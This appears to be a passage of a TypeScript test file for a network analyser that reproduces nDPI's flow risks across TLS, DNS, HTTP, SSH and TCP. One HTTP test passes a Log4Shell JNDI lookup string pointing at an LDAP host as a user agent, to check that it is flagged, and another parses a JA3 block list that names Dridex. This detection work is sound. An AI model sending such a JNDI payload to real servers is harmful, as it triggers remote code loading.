/**
 * nDPI's flow risks: the model (ids, names, scores), the rules on crafted flows, and real
 * captures of the corpus, where nDPI's own verdicts (.out) are the reference.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import { analyze } from '../../lib/analyze.js';
import { Flow } from '../../lib/flow/flow.js';
import { mergeAlerts, parseRiskSelection, RiskSelectionError } from '../../lib/risk/alerts.js';
import { http, isSuspiciousHeaderName } from '../../lib/classify/protocols/http.js';
import { tls } from '../../lib/classify/protocols/tls.js';
import { computeRisks } from '../../lib/risk/compute.js';
import { isCrawlerAgent, obsoleteServer } from '../../lib/risk/http.js';
import { obsoleteSshCipher, obsoleteSshVersion } from '../../lib/risk/ssh.js';
import { NO_LISTS, parseJa3List, parseRiskyDomains, parseSha1List, riskyDomainMatch } from '../../lib/risk/lists.js';
import { allRisks, hasRisk, RISK, riskInfo, riskScore, setRisk } from '../../lib/risk/risks.js';
import { multiOrBroadcast } from '../../lib/risk/traffic.js';
import { suspiciousExtension } from '../../lib/risk/tls-extensions.js';
import { testConfigLists } from '../../scripts/risk-accuracy.js';
import { NO_CORPUS, corpusFile, SAMPLES_DIR } from '../helpers/corpus.js';

test('the table: 56 risks with the names ndpiReader prints and the scores of their severities', () => {
  const all = allRisks();
  assert.equal(all.length, 56);
  assert.deepEqual(all.map((r) => r.id), Array.from({ length: 56 }, (_, i) => i + 1));
  const sev: Record<string, number> = { low: 10, medium: 50, high: 100, severe: 150, critical: 200, emergency: 250 };
  for (const r of all) assert.equal(r.score, sev[r.severity], r.macro);
  assert.equal(riskInfo(RISK.TLS_SELFSIGNED_CERTIFICATE)?.name, 'Self-signed Cert');
  assert.equal(riskInfo(RISK.UNIDIRECTIONAL_TRAFFIC)?.name, 'Unidirectional Traffic');
  assert.equal(riskInfo(RISK.MALICIOUS_FINGERPRINT)?.name, 'Malicious Fingerpint'); // nDPI's spelling
});

test('risk score: each risk split by its client share, as ndpiReader prints it', () => {
  const f = new Flow(1);
  assert.deepEqual(riskScore(f), { total: 0, client: 0, server: 0 });
  setRisk(f, RISK.CLEAR_TEXT_CREDENTIALS, 'Found FTP username (anonymous)'); // high 100, client 90 %
  setRisk(f, RISK.UNSAFE_PROTOCOL); // low 10, client 50 %
  setRisk(f, RISK.UNSAFE_PROTOCOL, 'later info is kept only when there was none');
  assert.deepEqual(
    f.risks?.map((r) => r.id),
    [RISK.UNSAFE_PROTOCOL, RISK.CLEAR_TEXT_CREDENTIALS],
  );
  // ftp.pcap.out: [Risk: ** Unsafe Protocol **** Clear-Text Credentials **][Risk Score: 110]
  assert.deepEqual(riskScore(f), { total: 110, client: 95, server: 15 });
});

function tcpFlow(cliFlags: number, srvFlags: number, payload = 0): Flow {
  const f = new Flow(1);
  f.proto = 6;
  f.cli[0] = 0x0a000001;
  f.srv[0] = 0x0a000002;
  f.cliPort = 40000;
  f.srvPort = 8080;
  f.cli2srvPackets = 1;
  f.cliTcpFlags = cliFlags;
  f.srv2cliPackets = srvFlags === 0 ? 0 : 1;
  f.srvTcpFlags = srvFlags;
  f.cli2srvPayload = payload;
  return f;
}

test('traffic: unidirectional unless sent to multicast/broadcast; refused connections and scans', () => {
  const one = tcpFlow(0x02, 0);
  computeRisks(one);
  assert.equal(one.risks?.find((r) => r.id === RISK.UNIDIRECTIONAL_TRAFFIC)?.info, 'No server to client traffic');
  const bcast = new Flow(2);
  bcast.proto = 17;
  bcast.srv[0] = 0xc0a802ff; // 192.168.2.255
  bcast.cli2srvPackets = 3;
  computeRisks(bcast);
  assert.equal(bcast.risks, null);
  assert.ok(multiOrBroadcast(4, [0xeffffffa]) && multiOrBroadcast(6, [0xff020000]) && !multiOrBroadcast(4, [0x08080808]));

  const refused = tcpFlow(0x02, 0x14); // SYN ← RST/ACK
  computeRisks(refused);
  assert.equal(refused.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'Connection refused (server)');
  const answered = tcpFlow(0x1a, 0x1a, 100);
  computeRisks(answered);
  assert.equal(hasRisk(answered, RISK.TCP_ISSUES), false);
  const nul = tcpFlow(0, 0);
  computeRisks(nul);
  assert.equal(nul.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'TCP NULL scan');
  const xmas = tcpFlow(0x29, 0);
  computeRisks(xmas);
  assert.equal(xmas.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'TCP XMAS scan');
});

test('traffic: nDPI\'s ndpi_check_tcp_flags: refusals in flows of fewer than five packets, then a lone server reset (probing)', () => {
  const info = (f: Flow): string | undefined => {
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info;
  };
  // SYN, SYN/ACK, RST from the client (reddit.pcap, telegram_videocall.pcapng, webex.pcap)
  const cliReset = tcpFlow(0x06, 0x12);
  cliReset.cli2srvPackets = 2;
  assert.equal(info(cliReset), 'Connection refused (client)');
  // SYN answered by RST/ACK, retried: eight packets are more than a refusal (rtsp.pcap's 8554)
  const retried = tcpFlow(0x02, 0x14);
  retried.cli2srvPackets = 4;
  retried.srv2cliPackets = 4;
  assert.equal(info(retried), undefined);
  // a single RST/ACK of the server, nothing from the client (starcraft_battle.pcap, KakaoTalk_chat.pcap)
  const lone = tcpFlow(0, 0x14);
  lone.cli2srvPackets = 0;
  assert.equal(info(lone), 'TCP probing attempt');
  // an ACK answered by a RST (zoom.pcap)
  assert.equal(info(tcpFlow(0x10, 0x04)), 'TCP probing attempt');
  // two resets from the server are not a probe
  const two = tcpFlow(0x10, 0x04);
  two.srv2cliPackets = 2;
  assert.equal(info(two), undefined);
});

test('corpus: TCP probing attempts and client resets as nDPI reports them', { skip: NO_CORPUS }, async () => {
  for (const [file, cli, srv, expected] of [
    ['zoom.pcap', '192.168.1.117:54798', '13.225.84.182:443', 'TCP probing attempt'],
    ['starcraft_battle.pcap', '192.168.1.100:3476', '80.239.186.26:443', 'TCP probing attempt'],
    ['webex.pcap', '10.8.0.1:51859', '62.109.229.158:443', 'Connection refused (client)'],
  ] as const) {
    const f = (await corpusFlows(file))(cli, srv);
    assert.equal(f.risks?.find((x) => x.id === RISK.TCP_ISSUES)?.info, expected, file);
  }
});

test('TLS on crafted metadata: version, cipher, SNI, ALPN, certificate dates and names', () => {
  const f = tcpFlow(0x1a, 0x1a, 500);
  f.srvPort = 443;
  f.l7Master = 91;
  f.confidence = 'dpi';
  f.firstSec = Date.UTC(2024, 0, 1) / 1000;
  f.meta.tls = {
    version: 0x0302,
    cipher: 0x0035,
    ja3c: '0123456789abcdef0123456789abcdef',
    alpnOffered: ['h2'],
    subject: 'CN=a.example',
    issuer: 'CN=a.example',
    sans: ['a.example'],
    notBefore: Date.UTC(2023, 0, 1) / 1000,
    notAfter: Date.UTC(2024, 0, 20) / 1000,
  };
  computeRisks(f);
  const info = (id: number) => f.risks?.find((r) => r.id === id)?.info;
  assert.equal(info(RISK.TLS_OBSOLETE_VERSION), 'TLSv1.1');
  assert.equal(info(RISK.TLS_WEAK_CIPHER), 'Cipher TLS_RSA_WITH_AES_256_CBC_SHA');
  assert.equal(info(RISK.TLS_MISSING_SNI), 'SNI should always be present');
  assert.equal(info(RISK.TLS_ALPN_SNI_MISMATCH), 'h2');
  assert.equal(info(RISK.TLS_SELFSIGNED_CERTIFICATE), 'CN=a.example');
  assert.equal(info(RISK.TLS_CERTIFICATE_ABOUT_TO_EXPIRE), '01/Jan/2023 00:00:00 - 20/Jan/2024 00:00:00');
  assert.equal(hasRisk(f, RISK.TLS_CERTIFICATE_EXPIRED), false);
  assert.equal(hasRisk(f, RISK.TLS_NOT_CARRYING_HTTPS), false, 'ALPN offered');

  const g = tcpFlow(0x1a, 0x1a, 500);
  g.srvPort = 443;
  g.l7Master = 91;
  g.firstSec = Date.UTC(2024, 0, 1) / 1000;
  g.meta.tls = { version: 0x0303, sni: 'www.example.org', ja3c: 'x', sans: ['*.example.com'], notBefore: Date.UTC(2021, 0, 1) / 1000, notAfter: Date.UTC(2023, 0, 1) / 1000 };
  computeRisks(g);
  const gi = (id: number) => g.risks?.find((r) => r.id === id)?.info;
  assert.equal(gi(RISK.TLS_NOT_CARRYING_HTTPS), 'No ALPN');
  assert.equal(gi(RISK.TLS_CERTIFICATE_MISMATCH), 'www.example.org vs *.example.com');
  assert.equal(gi(RISK.TLS_CERTIFICATE_EXPIRED), '01/Jan/2021 00:00:00 - 01/Jan/2023 00:00:00');
  assert.equal(gi(RISK.TLS_CERT_VALIDITY_TOO_LONG), 'TLS Cert lasts 730 days');
  assert.equal(hasRisk(g, RISK.TLS_MISSING_SNI), false);
});

test('HTTP servers nDPI calls obsolete: Apache before 2.4, nginx before 1.20', () => {
  assert.equal(obsoleteServer('Apache/2.2.3 (CentOS)'), 'Obsolete Apache server 2.2.3');
  assert.equal(obsoleteServer('Apache/2.4.7 (Ubuntu)'), undefined);
  assert.equal(obsoleteServer('nginx/1.12.2'), 'Obsolete nginx server 1.12.2');
  assert.equal(obsoleteServer('nginx/1.24.0'), undefined);
  assert.equal(obsoleteServer('nginx'), undefined);
});

test('block lists: the files of nDPI test configuration as nDPI reads them', () => {
  assert.deepEqual([...parseRiskyDomains('# c\n.xyz\nexample.org\n\n')], ['xyz', 'example.org']);
  const lists = { ...NO_LISTS, riskyDomains: parseRiskyDomains('.xyz\nexample.org') };
  assert.equal(riskyDomainMatch(lists, 'a.b.XYZ'), 'xyz');
  assert.equal(riskyDomainMatch(lists, 'example.org.'), 'example.org');
  assert.equal(riskyDomainMatch(lists, 'notexample.org'), undefined);
  assert.deepEqual([...parseJa3List('# h\nB386946A5A44D1DDCC843BC75336DFCE,2017-07-14,x,Dridex\nnot,a,hash')], ['b386946a5a44d1ddcc843bc75336dfce']);
  assert.deepEqual([...parseSha1List('1970-01-01 00:00:00,0DDB34F875632C7E1EC09D75827F82D2336DFEB6, Fake')], ['0ddb34f875632c7e1ec09d75827f82d2336dfeb6']);
  const cfg = testConfigLists();
  if (cfg.ja3.size > 0) assert.ok(cfg.ja3.size > 90 && cfg.sha1.size > 4000 && cfg.riskyDomains.has('xyz'));
});

test('--risks selection: all, none, a list, drops from all; unknown names refused', () => {
  assert.equal(parseRiskSelection('all').size, 56);
  assert.equal(parseRiskSelection('none').size, 0);
  assert.deepEqual([...parseRiskSelection('tls_selfsigned_certificate,ndpi/tls_obsolete_version,8')], [6, 7, 8]);
  const s = parseRiskSelection('-unidirectional_traffic,-NDPI_UNSAFE_PROTOCOL');
  assert.equal(s.size, 54);
  assert.ok(!s.has(46) && !s.has(22) && s.has(6));
  assert.throws(() => parseRiskSelection('tls_bogus'), RiskSelectionError);
  assert.throws(() => parseRiskSelection(''), RiskSelectionError);
});

test('alerts merged by time, each list in its own order', () => {
  const a = (t: number, c: string) => ({ flowId: 1, score: 1, severity: 'info', message: '', check: c, tsSec: t, tsNsec: 0 });
  const m = mergeAlerts([a(1, 'r1'), a(5, 'r2')], [a(3, 'l1'), a(2, 'l2'), a(6, 'l3')]);
  assert.deepEqual(m.map((x) => x.check), ['r1', 'l1', 'l2', 'r2', 'l3']);
});

test('samples/mixed.pcap: HTTP Basic credentials and a numeric Host become alerts with nDPI scores', async () => {
  const r = await analyze({ inputs: [path.join(SAMPLES_DIR, 'mixed.pcap')], keepFlows: true });
  const http = r.flows.find((f) => f.meta.http?.authorization !== undefined);
  assert.ok(http, 'the sample has an HTTP request with Authorization');
  assert.ok(hasRisk(http, RISK.CLEAR_TEXT_CREDENTIALS) && hasRisk(http, RISK.NUMERIC_IP_HOST));
  const checks = http.alerts.map((a) => `${a.check} ${a.score} ${a.severity}`);
  assert.ok(checks.includes('ndpi/clear_text_credentials 100 error'), checks.join('; '));
  assert.ok(checks.includes('ndpi/numeric_ip_host 10 notice'), checks.join('; '));
  assert.equal(http.score, 100);
  assert.ok(r.alerts.length >= 2);
  const off = await analyze({ inputs: [path.join(SAMPLES_DIR, 'mixed.pcap')], keepFlows: true, riskAlerts: new Set() });
  assert.equal(off.alerts.length, 0, 'no risk alerts when none selected');
  assert.ok(off.flows.some((f) => hasRisk(f, RISK.CLEAR_TEXT_CREDENTIALS)), 'risks are still computed');
  // the benchmark switch (scripts/bench-risks.ts): no risk at all, the classification unchanged
  const none = await analyze({ inputs: [path.join(SAMPLES_DIR, 'mixed.pcap')], keepFlows: true, risks: false });
  assert.equal(none.alerts.length, 0);
  assert.ok(none.flows.every((f) => f.risks === null));
  assert.deepEqual(
    none.flows.map((f) => `${f.id} ${f.l7Master}.${f.l7App}`),
    r.flows.map((f) => `${f.id} ${f.l7Master}.${f.l7App}`),
  );
});

/** The corpus flow between the two endpoints (any order), from a run with nDPI's test lists. */
async function corpusFlows(name: string, lists = testConfigLists()) {
  const r = await analyze({ inputs: [corpusFile(name)], keepFlows: true, riskLists: lists });
  return (a: string, b: string): Flow => {
    const f = r.flows.find((x) => {
      const c = `${x.cliAddr()}:${x.cliPort}`;
      const s = `${x.srvAddr()}:${x.srvPort}`;
      return (c === a && s === b) || (c === b && s === a);
    });
    assert.ok(f, `${name}: flow ${a} <-> ${b}`);
    return f;
  };
}

const names = (f: Flow) => (f.risks ?? []).map((r) => riskInfo(r.id)?.name).sort();

test('corpus gnutella.pcap: a self-signed, expired, 16-year certificate and a refused connection, as nDPI lists them', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('gnutella.pcap');
  // nDPI: [Risk: ** Self-signed Cert **** TLS Cert Expired **** Missing SNI TLS Extn **** TLS (probably) Not Carrying HTTPS **
  //        **** TLS Cert Validity Too Long ** …] on 10.0.2.15:50314 <-> 80.7.252.192:6888
  const tls = flow('10.0.2.15:50314', '80.7.252.192:6888');
  for (const n of ['Self-signed Cert', 'TLS Cert Expired', 'TLS Cert Validity Too Long', 'Missing SNI TLS Extn', 'TLS (probably) Not Carrying HTTPS']) {
    assert.ok(names(tls).includes(n), `${n} in ${names(tls).join(', ')}`);
  }
  assert.equal(tls.risks?.find((r) => r.id === RISK.TLS_CERT_VALIDITY_TOO_LONG)?.info, 'TLS Cert lasts 5870 days');
  const refused = flow('10.0.2.15:50220', '36.233.196.226:3820');
  assert.equal(refused.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'Connection refused (server)');
});

test('corpus KakaoTalk_chat.pcap: obsolete TLS, weak cipher, and a JA3 of the block list only when the list is loaded', { skip: NO_CORPUS }, async () => {
  const withList = await corpusFlows('KakaoTalk_chat.pcap');
  // nDPI: TLSv1 / dff8a0aa1c904aaea76c5bf624e88333 / Cipher TLS_RSA_WITH_AES_128_CBC_SHA
  const f = withList('10.24.82.188:37821', '210.103.240.15:443');
  assert.deepEqual(names(f), ['Malicious Fingerpint', 'Obsolete TLS (v1.1 or older)', 'Weak TLS Cipher']);
  assert.equal(f.risks?.find((r) => r.id === RISK.MALICIOUS_FINGERPRINT)?.info, 'dff8a0aa1c904aaea76c5bf624e88333');
  const noList = await corpusFlows('KakaoTalk_chat.pcap', NO_LISTS);
  assert.deepEqual(names(noList('10.24.82.188:37821', '210.103.240.15:443')), ['Obsolete TLS (v1.1 or older)', 'Weak TLS Cipher']);
});

test('ICMP: entropy of the first message as nDPI reads it; invalid type and bad checksum are malformed', async () => {
  const { entropy, entropyLabel, icmpFirstPacket } = await import('../../lib/risk/packet.js');
  assert.equal(entropy(new Uint8Array(64), 0, 64), 0);
  const all = Uint8Array.from({ length: 256 }, (_, i) => i);
  assert.equal(entropy(all, 0, 256), 8);
  assert.equal(entropyLabel(8), 'Encrypted or Random');
  assert.equal(entropyLabel(5.868), 'Executable');
  assert.equal(entropyLabel(4.9), undefined);
  // echo request, id 1 seq 1, 256 distinct bytes, right checksum
  const msg = new Uint8Array(8 + 256);
  msg[0] = 8;
  msg.set(all, 8);
  let sum = 0;
  for (let i = 0; i < msg.length; i += 2) sum += (msg[i] << 8) | msg[i + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  const ck = ~sum & 0xffff;
  msg[2] = ck >> 8;
  msg[3] = ck & 0xff;
  const f = new Flow(1);
  f.proto = 1;
  icmpFirstPacket(f, 8, 0, msg, 8, 256, msg.length);
  assert.deepEqual(f.risks, [{ id: RISK.SUSPICIOUS_ENTROPY, info: 'Entropy: 8.000 (Encrypted or Random?)' }]);
  msg[3] ^= 1;
  const g = new Flow(2);
  g.proto = 1;
  icmpFirstPacket(g, 60, 0, msg, 8, 256, msg.length);
  assert.equal(g.risks?.find((r) => r.id === RISK.MALFORMED_PACKET)?.info, 'Invalid type (60)/code(0)');
  assert.equal(g.risks?.length, 2);
});

test('DNS messages: invalid characters, a cut-short question, zero TTL, error code, large response, fragments', async () => {
  const { dnsMessage } = await import('../../lib/risk/dns-packet.js');
  const name = (labels: (string | number[])[]) => {
    const out: number[] = [];
    for (const l of labels) {
      const bytes = typeof l === 'string' ? [...Buffer.from(l)] : l;
      out.push(bytes.length, ...bytes);
    }
    out.push(0);
    return out;
  };
  const header = (id: number, flags: number, qd: number, an: number, ns = 0, ar = 0) => [id >> 8, id & 255, flags >> 8, flags & 255, 0, qd, 0, an, 0, ns, 0, ar];
  const q = [...header(1, 0x0100, 1, 0), ...name(['www', [0x65, 0x01, 0x78], 'com']), 0, 1, 0, 1];
  const f = new Flow(1);
  f.proto = 17;
  const st = { messages: 0, valid: false, done: false };
  dnsMessage(f, st, false, 40000, 53, Uint8Array.from(q), 0, q.length, false);
  assert.deepEqual(f.risks, [{ id: RISK.INVALID_CHARACTERS, info: 'Invalid chars detected in domain name' }]);
  // the response: NXDOMAIN, one A record with TTL 0, padded past 512 bytes, in IP fragments
  const ans = [0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 10, 0, 0, 1];
  const r = [...header(1, 0x8183, 1, 1), ...q.slice(12), ...ans];
  const big = Uint8Array.from([...r, ...new Array(600 - r.length).fill(0)]);
  dnsMessage(f, st, false, 53, 40000, big, 0, big.length, true);
  const info = (id: number) => f.risks?.find((x) => x.id === id)?.info;
  assert.equal(info(RISK.ERROR_CODE_DETECTED), 'DNS Error Code NXDOMAIN');
  assert.equal(info(RISK.MINOR_ISSUES), 'DNS Record with zero TTL');
  assert.equal(info(RISK.DNS_LARGE_PACKET), '600 Bytes DNS Packet');
  assert.ok(hasRisk(f, RISK.DNS_FRAGMENTED));
  assert.equal(st.done, true, 'a response with records ends the look');
  // a question cut short is malformed
  const g = new Flow(2);
  g.proto = 17;
  const cut = Uint8Array.from([...header(2, 0x0100, 1, 0), 7, 0x61, 0x62]);
  dnsMessage(g, { messages: 0, valid: false, done: false }, false, 40001, 53, cut, 0, cut.length, false);
  assert.equal(g.risks?.find((x) => x.id === RISK.MALFORMED_PACKET)?.info, 'Invalid DNS Query Lenght');
  // not DNS at all (a first message that is no DNS header): nothing
  const h = new Flow(3);
  const junk = Uint8Array.from(new Array(40).fill(0xff));
  dnsMessage(h, { messages: 0, valid: false, done: false }, false, 40002, 53, junk, 0, junk.length, false);
  assert.equal(h.risks, null);
  // a first label over 48 characters is suspicious, unless the name is a reverse lookup, ends
  // in a name where that is normal, or has one label only; exactly 48 is not
  const long = 'A'.repeat(49);
  const risksOf = (labels: (string | number[])[], port = 53) => {
    const m = Uint8Array.from([...header(4, 0x0100, 1, 0), ...name(labels), 0, 1, 0, 1]);
    const k = new Flow(4);
    k.proto = 17;
    dnsMessage(k, { messages: 0, valid: false, done: false }, false, 40003, port, m, 0, m.length, false);
    return (k.risks ?? []).map((x) => `${x.id}:${x.info}`);
  };
  assert.deepEqual(risksOf([long, 'example', 'com']), [`${RISK.DNS_SUSPICIOUS_TRAFFIC}:Long DNS host name`]);
  assert.deepEqual(risksOf([long, 'x', 'In-Addr', 'arpa']), []);
  assert.deepEqual(risksOf([long, 'cdn', 'Spamhaus', 'org']), []);
  assert.deepEqual(risksOf([long]), []);
  assert.deepEqual(risksOf(['a'.repeat(48), 'example', 'com']), []);
  assert.deepEqual(risksOf([long, 'example', 'com'], 5353), [], 'mDNS names are not checked');
  assert.deepEqual(risksOf([long, [0x65, 0x01], 'com']), [`${RISK.DNS_SUSPICIOUS_TRAFFIC}:Long DNS host name`, `${RISK.INVALID_CHARACTERS}:Invalid chars detected in domain name`]);
});

test('HTTP agents: missing, without a letter or digit, carrying a JNDI lookup', () => {
  const mk = (ua: string | undefined) => {
    const f = tcpFlow(0x1a, 0x1a, 300);
    f.l7Master = 7;
    f.meta.http = { method: 'GET', url: '/', host: 'example.org', userAgent: ua };
    computeRisks(f);
    return (f.risks ?? []).map((r) => `${r.id}:${r.info}`);
  };
  assert.deepEqual(mk(undefined), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Empty or missing User-Agent`]);
  assert.deepEqual(mk('**'), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Suspicious Agent`]);
  assert.deepEqual(mk('/3.9.4.0'), []);
  assert.deepEqual(mk('${jndi:ldap://172.16.238.11:1389/a}'), [`${RISK.POSSIBLE_EXPLOIT}:Suspicious Log4J`]);
  assert.deepEqual(mk('Mozilla/5.0'), []);
  // exe_download.pcap: a random name of letters, a fifth or more upper case (http.c)
  assert.deepEqual(mk('pwtyyEKzNtGatwnJjmCcBLbOveCVpc'), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:UA pwtyyEKzNtGatwnJjmCcBLbOveCVpc`]);
  assert.deepEqual(mk('Microsoftupdate'), []); // under a fifth upper case
  assert.deepEqual(mk('ABCDEFGHIJKL'), []); // 12 letters: not over 12
});

test('corpus ftp.pcap and pop3.pcap: logins in clear, worded as nDPI words them, never the password', { skip: NO_CORPUS }, async () => {
  for (const [file, want] of [
    ['ftp.pcap', 'Found FTP username (anonymous)'],
    ['pop3.pcap', 'Found username (cicciopernacchio@mail.com)'],
  ]) {
    const r = await analyze({ inputs: [corpusFile(file)], keepFlows: true });
    const infos = r.flows.flatMap((f) => (f.risks ?? []).filter((x) => x.id === RISK.CLEAR_TEXT_CREDENTIALS).map((x) => x.info));
    assert.ok(infos.includes(want), `${file}: ${infos.join('; ')}`);
    const pw = r.flows.map((f) => f.meta.other?.['ftp.password'] ?? f.meta.other?.['pop3.password']).find((p) => p !== undefined && p !== '');
    if (pw !== undefined) assert.ok(!infos.some((i) => i?.includes(String(pw))), 'the password is not in the risk');
  }
});

test('corpus rsh.pcap: the rsh account and command in clear are Clear-Text Credentials, as nDPI words them', { skip: NO_CORPUS }, async () => {
  const r = await analyze({ inputs: [corpusFile('rsh.pcap')], keepFlows: true });
  const infos = r.flows.flatMap((f) => (f.risks ?? []).filter((x) => x.id === RISK.CLEAR_TEXT_CREDENTIALS).map((x) => x.info)).sort();
  // rsh.pcap.out: [Risk Info: User 'root' executing 'mkdir testdir'], [… 'someuser' executing 'some random command']
  assert.deepEqual(infos, ["User 'root' executing 'mkdir testdir'", "User 'someuser' executing 'some random command'"]);
});

test('uncommon ALPN: an application tag is flagged, HTTP, SPDY and QUIC drafts are not', () => {
  const alpn = (offered: string[]) => {
    const f = tcpFlow(0x1a, 0x1a, 300);
    f.l7Master = 91;
    f.meta.tls = { version: 0x0303, sni: 'a.example', ja3c: 'x', alpnOffered: offered };
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.TLS_UNCOMMON_ALPN)?.info;
  };
  assert.equal(alpn(['anydesk/6.2.0/linux']), 'anydesk/6.2.0/linux');
  assert.equal(alpn(['h2', 'http/1.1', 'spdy/3.1', 'h3-fb-05', 'hq-interop', 'h2-16']), undefined);
});

test('IDN: a host with a punycode label', () => {
  const f = new Flow(1);
  f.host = 'www.xn--mnich-kva.com';
  computeRisks(f);
  assert.equal(f.risks?.find((r) => r.id === RISK.PUNYCODE_IDN)?.info, 'www.xn--mnich-kva.com');
  const g = new Flow(2);
  g.host = 'www.example-xn--.com';
  computeRisks(g);
  assert.equal(hasRisk(g, RISK.PUNYCODE_IDN), false);
});

test('SSH: obsolete releases in the banners and deprecated ciphers in the KEXINIT lists, as ssh.c reads them', () => {
  assert.equal(obsoleteSshVersion('SSH-2.0-OpenSSH_5.3'), true);
  assert.equal(obsoleteSshVersion('SSH-1.99-OpenSSH_4.3'), true);
  assert.equal(obsoleteSshVersion('SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.11'), false);
  assert.equal(obsoleteSshVersion('SSH-2.0-OpenSSH_7.0'), false);
  assert.equal(obsoleteSshVersion('SSH-2.0-APACHE-SSHD-2.5.0'), true);
  assert.equal(obsoleteSshVersion('SSH-2.0-APACHE-SSHD-2.5.1'), false);
  assert.equal(obsoleteSshVersion('SSH-2.0-dropbear_2019.78'), true);
  assert.equal(obsoleteSshVersion('SSH-2.0-dropbear_2022.83'), false);
  assert.equal(obsoleteSshVersion('SSH-1.5-1.2.26'), false); // no known implementation
  assert.equal(obsoleteSshVersion('SSH-2.0-OpenSSH_7'), false); // major only: sscanf reads one number, nDPI needs two
  assert.equal(obsoleteSshCipher('aes128-ctr,aes256-ctr,arcfour128,3des-cbc'), 'arcfour128');
  assert.equal(obsoleteSshCipher('aes128-ctr,3des-cbc'), '3des-cbc');
  assert.equal(obsoleteSshCipher('arcfour256'), undefined); // nDPI's first entry is never reported
  assert.equal(obsoleteSshCipher('chacha20-poly1305@openssh.com,aes128-ctr'), undefined);
  const f = tcpFlow(0x1b, 0x1b, 300);
  f.meta.ssh = { clientBanner: 'SSH-2.0-OpenSSH_8.2p1', serverBanner: 'SSH-2.0-OpenSSH_8.9', ciphersClient: 'aes128-ctr', ciphersServer: 'aes128-ctr,arcfour' };
  computeRisks(f);
  assert.deepEqual(f.risks?.map((r) => `${r.id}:${r.info}`), [`${RISK.SSH_OBSOLETE_SERVER_VERSION_OR_CIPHER}:Found cipher arcfour`]);
});

test('corpus ssh.pcap: arcfour128 offered by both sides, and an Apache SSHD server offering it, as nDPI lists them', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('ssh.pcap');
  // nDPI: [Risk: ** SSH Obsolete Cli Vers/Cipher **** SSH Obsolete Ser Vers/Cipher **][Risk Info: Found cipher arcfour128 / Found cipher arcfour128]
  assert.deepEqual(names(flow('172.16.238.1:58395', '172.16.238.168:22')), ['SSH Obsolete Cli Vers/Cipher', 'SSH Obsolete Ser Vers/Cipher']);
  const apache = flow('127.0.0.1:58496', '127.0.0.1:8000');
  assert.ok(names(apache).includes('SSH Obsolete Ser Vers/Cipher'));
  assert.ok(!names(apache).includes('SSH Obsolete Cli Vers/Cipher'));
  assert.equal(apache.risks?.find((r) => r.id === RISK.SSH_OBSOLETE_SERVER_VERSION_OR_CIPHER)?.info, 'Found cipher arcfour128');
});

test('Crawler/Bot: a bot link or "crawler"/"bot" in the agent, as http.c of nDPI reads it', () => {
  assert.equal(isCrawlerAgent('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'), true);
  assert.equal(isCrawlerAgent('Anonymous Crawler/1.0 (Webcrawler developed with StormCrawler)'), true);
  assert.equal(isCrawlerAgent('Amazon-Route53-Health-Check-Service (ref 68784dad; report http://amzn.to/1vsZADi)'), true);
  assert.equal(isCrawlerAgent('zbtls http'), false); // crawler_false_positive.pcapng: nDPI wants "http:"
  assert.equal(isCrawlerAgent('Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0'), false);
  const f = tcpFlow(0x1a, 0x1a, 300);
  f.l7Master = 7;
  f.meta.http = { method: 'GET', url: '/', host: 'atlanteditorino.it', userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' };
  computeRisks(f);
  // bot.pcap.out: [Risk: ** Crawler/Bot **][Risk Info: UA Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/b]
  assert.deepEqual(f.risks?.map((r) => `${r.id}:${r.info}`), [`${RISK.HTTP_CRAWLER_BOT}:UA Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/b`]);
});

test('HTTP Susp Header: the header names of http.c, a non-printable Server, a Host address that is not the server', () => {
  assert.equal(isSuspiciousHeaderName('TLS_version'), true);
  assert.equal(isSuspiciousHeaderName('Osversion'), true);
  assert.equal(isSuspiciousHeaderName('Arc'), true); // nDPI compares the name's length only: a prefix of "Arch"
  assert.equal(isSuspiciousHeaderName('Server'), false);
  assert.equal(isSuspiciousHeaderName('Accept'), false);
  assert.equal(isSuspiciousHeaderName('tls_version'), false); // the first letter is matched upper-case
  const mk = (http: Record<string, string>) => {
    const f = tcpFlow(0x1a, 0x1a, 300);
    f.l7Master = 7;
    f.meta.http = { method: 'GET', url: '/', userAgent: 'Mozilla/5.0', ...http };
    computeRisks(f);
    return (f.risks ?? []).filter((r) => r.id === RISK.HTTP_SUSPICIOUS_HEADER).map((r) => r.info);
  };
  assert.deepEqual(mk({ host: 'example.org', suspiciousHeader: 'Found TLS_version: UNKNOWN' }), ['Found TLS_version: UNKNOWN']);
  assert.deepEqual(mk({ host: 'example.org', server: 'Apache\x01\x02xyz' }), ['Suspicious Agent']);
  assert.deepEqual(mk({ host: 'example.org', server: 'nginx/1.25.3' }), []);
  const f = tcpFlow(0x1a, 0x1a, 300);
  assert.deepEqual(mk({ host: `${f.srvAddr()}:80` }), []);
  assert.deepEqual(mk({ host: '192.0.2.77' }), [`Expected ${f.srvAddr()}, found 192.0.2.77`]);
});

test('corpus tls_certificate_too_long.pcap: a "TLS_version" request header is HTTP Susp Header, as nDPI lists it', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('tls_certificate_too_long.pcap');
  const f = flow('192.168.1.121:53913', '2.22.33.235:80');
  assert.equal(f.risks?.find((r) => r.id === RISK.HTTP_SUSPICIOUS_HEADER)?.info, 'Found TLS_version: UNKNOWN');
});

test('TLS Fatal Alert: a two-byte alert record of level 2 after a ClientHello, as tls.c reads it; a warning is not', () => {
